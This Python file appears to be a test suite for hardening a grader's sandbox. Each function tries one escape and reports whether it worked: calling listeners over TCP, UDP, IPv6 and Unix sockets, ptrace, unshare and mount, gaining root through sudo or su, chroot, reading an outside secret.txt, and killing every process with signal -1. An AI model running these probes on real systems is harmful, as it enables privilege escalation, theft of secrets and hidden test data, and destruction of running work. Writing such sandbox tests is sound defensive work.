"""Attacks that try to get out: the network, other processes, namespaces, mounts, other users."""

from tests.attacks.attack import at_import

LISTENER = {"split": {"network", "loot"}}
IT_WOULD_REACH_THE_MACHINE = {"split": "as root it would reach every process of this machine"}


@at_import("sampling", tries="Calls a listener on this machine over TCP.", gaps=LISTENER)
def tcp():
    import socket

    from targets import TCP, boast

    try:
        with socket.create_connection(("127.0.0.1", TCP), timeout=0.5) as line:
            line.sendall(b"answers, please")
    except OSError:
        return
    boast("connected")


@at_import(
    "sampling", tries="Sends a datagram, which needs no answer to carry something out.", gaps={"split": {"network"}}
)
def udp():
    import contextlib
    import socket

    from targets import UDP

    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"inputs of a hidden test", ("127.0.0.1", UDP))


@at_import("sampling", tries="Calls over IPv6, where a filter may have been forgotten.", gaps=LISTENER)
def ipv6():
    import socket

    from targets import TCP, boast

    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as line:
            line.settimeout(0.5)
            line.connect_ex(("::ffff:127.0.0.1", TCP))
            if line.getpeername():
                boast("connected")
    except OSError:
        return


@at_import("sampling", tries="Calls a Unix socket that lies in a folder open to all.", gaps=LISTENER)
def unix_socket():
    import socket

    from targets import OUTSIDE, boast

    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(0.5)
            line.connect(f"{OUTSIDE}/socket")
    except OSError:
        return
    boast("connected")


@at_import("sampling", tries="Calls an abstract Unix socket, which no file system guards.", gaps=LISTENER)
def abstract_socket():
    import socket

    from targets import ABSTRACT, boast

    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(0.5)
            line.connect(ABSTRACT)
    except OSError:
        return
    boast("connected")


@at_import(
    "sampling", tries="Reuses the socket it was given to call somewhere else.", setting="alone", sabotages_itself=True
)
def its_own_socket_elsewhere():
    import os
    import socket
    import stat

    from targets import OUTSIDE, TCP, boast

    for descriptor in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
            line = socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
        for place in (f"{OUTSIDE}/socket", ("127.0.0.1", TCP)):
            try:
                line.connect(place)
            except (OSError, TypeError):
                continue
            boast("connected")


@at_import("sampling", tries="Opens raw, packet, netlink and vsock sockets.", gaps={"split": {"loot"}})
def unusual_sockets():
    import socket

    from targets import boast

    for family, kind, protocol in (
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        (socket.AF_PACKET, socket.SOCK_RAW, 3),
        (socket.AF_VSOCK, socket.SOCK_STREAM, 0),
    ):
        try:
            line = socket.socket(family, kind, protocol)
        except OSError:
            continue
        try:
            reachable = family != socket.AF_VSOCK and [name for _, name in socket.if_nameindex() if name != "lo"]
        except OSError:
            continue
        finally:
            line.close()
        if reachable:
            boast(f"{family} beside {reachable}")


@at_import("sampling", tries="Asks after the grader's process with signal 0.", gaps={"split": {"loot"}})
def signal_to_the_grader():
    import os

    from targets import GRADER_PID, boast

    try:
        os.kill(GRADER_PID, 0)
    except OSError:
        return
    boast("it may be signalled")


@at_import("sampling", tries="Kills a process that has nothing to do with it.", gaps={"split": {"signals"}})
def kill_a_bystander():
    import contextlib
    import os
    import signal

    from targets import BYSTANDER

    with contextlib.suppress(OSError):
        os.kill(BYSTANDER, signal.SIGKILL)


@at_import(
    "sampling", tries="Stops a process by a descriptor for it instead of its number.", gaps={"split": {"signals"}}
)
def stop_a_bystander_by_descriptor():
    import contextlib
    import os
    import signal

    from targets import BYSTANDER

    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.pidfd_open(BYSTANDER), signal.SIGSTOP)


@at_import("sampling", tries="Attaches to another process as a debugger.", gaps={"split as root": {"loot"}})
def ptrace():
    import ctypes

    from targets import BYSTANDER, boast

    libc = ctypes.CDLL(None)
    seize, detach = 0x4206, 17
    if libc.ptrace(seize, BYSTANDER, None, None) == 0:
        libc.ptrace(detach, BYSTANDER, None, None)
        boast("attached")


@at_import(
    "sampling",
    tries="Reaches into another process by pidfd_getfd for its descriptors.",
    gaps={"split as root": {"loot"}},
)
def descriptors_of_another():
    import ctypes
    import os

    from targets import BYSTANDER, boast

    try:
        handle = os.pidfd_open(BYSTANDER)
    except OSError:
        return
    if ctypes.CDLL(None).syscall(438, handle, 0, 0) >= 0:
        boast("took one")


@at_import(
    "sampling",
    tries="Makes new namespaces, to be root in them.",
    gaps={"split as root": {"loot"}},
    setting="alone",
)
def new_namespaces():
    import ctypes
    import os

    from targets import boast

    libc = ctypes.CDLL(None)
    for flags in (0x10000000, 0x10000000 | 0x00020000, 0x40000000):  # user, user and mount, network
        child = os.fork()
        if child == 0:
            os._exit(0 if libc.unshare(flags) == 0 else 1)
        if os.waitpid(child, 0)[1] == 0:
            boast(hex(flags))


@at_import(
    "sampling",
    tries="Mounts a file system over its scratch folder.",
    gaps={"split as root": {"loot"}},
    setting="alone",
)
def mount():
    import ctypes
    import os

    from targets import boast

    child = os.fork()
    if child == 0:  # in a namespace of its own, so that nothing of the machine is changed
        libc = ctypes.CDLL(None)
        libc.unshare(0x00020000)
        private, recursive = 1 << 18, 1 << 14
        if libc.mount(b"none", b"/", None, private | recursive, None) != 0:
            os._exit(1)
        os._exit(0 if libc.mount(b"none", os.getcwd().encode(), b"tmpfs", 0, None) == 0 else 1)
    if os.waitpid(child, 0)[1] == 0:
        boast("mounted")


@at_import(
    "sampling", tries="Becomes root, by asking and by a program that has the bit.", gaps={"split as root": {"loot"}}
)
def become_root():
    import os
    import subprocess

    from targets import boast

    try:
        os.setuid(0)
    except OSError:
        for program in (["sudo", "-n", "id", "-u"], ["su", "-c", "id -u"]):
            try:
                said = subprocess.run(program, capture_output=True, stdin=subprocess.DEVNULL, timeout=2)
            except (OSError, subprocess.TimeoutExpired):
                continue
            if said.stdout.strip() == b"0":
                boast(program)
        return
    boast("uid 0")


@at_import(
    "sampling",
    tries="Leaves its root folder by way of a descriptor and chroot.",
    gaps={"split as root": {"loot"}},
    setting="alone",
)
def chroot():
    import os

    from targets import boast

    child = os.fork()
    if child == 0:
        try:
            os.chroot(".")
        except OSError:
            os._exit(1)
        os._exit(0)
    if os.waitpid(child, 0)[1] == 0:
        boast("chroot works")


@at_import(
    "sampling", tries="Opens files by handle, which passes by every path check.", gaps={"split as root": {"loot"}}
)
def open_by_handle():
    import ctypes
    import os

    from targets import OUTSIDE, boast

    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_char * 128)]

    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount_id = Handle(128), ctypes.c_int()
    place = os.open(".", os.O_RDONLY)
    for path in (f"{OUTSIDE}/secret.txt", "."):
        if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) == 0:
            opened = libc.open_by_handle_at(place, ctypes.byref(handle), os.O_RDONLY)
            if opened >= 0 and path != ".":
                boast(os.read(opened, 100))


@at_import("sampling", tries="Starts a program to do what Python may not.", gaps={"split": {"loot"}})
def by_another_program():
    import subprocess

    from targets import OUTSIDE, boast

    try:
        said = subprocess.run(["/bin/cat", f"{OUTSIDE}/secret.txt"], capture_output=True, timeout=2)
    except (OSError, subprocess.TimeoutExpired):
        return
    if said.stdout:
        boast(said.stdout)


@at_import(
    "sampling",
    tries="Uses the kernel's key store, which outlives processes.",
    gaps={"split": {"loot"}},
)
def key_store():
    import ctypes

    from targets import boast

    libc = ctypes.CDLL(None)
    add_key, keyctl, user_keyring = 248, 250, -4
    key = libc.syscall(add_key, b"user", b"attack", b"x", 1, user_keyring)
    if key > 0:
        libc.syscall(keyctl, 9, key, user_keyring)  # unlinked again
        boast("a key was stored")


@at_import(
    "sampling",
    tries="Kills every process it may.",
    never_on=IT_WOULD_REACH_THE_MACHINE,
    harmless=False,
    setting="alone",
    sabotages_itself=True,
)
def kill_all():
    import contextlib
    import os
    import signal

    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
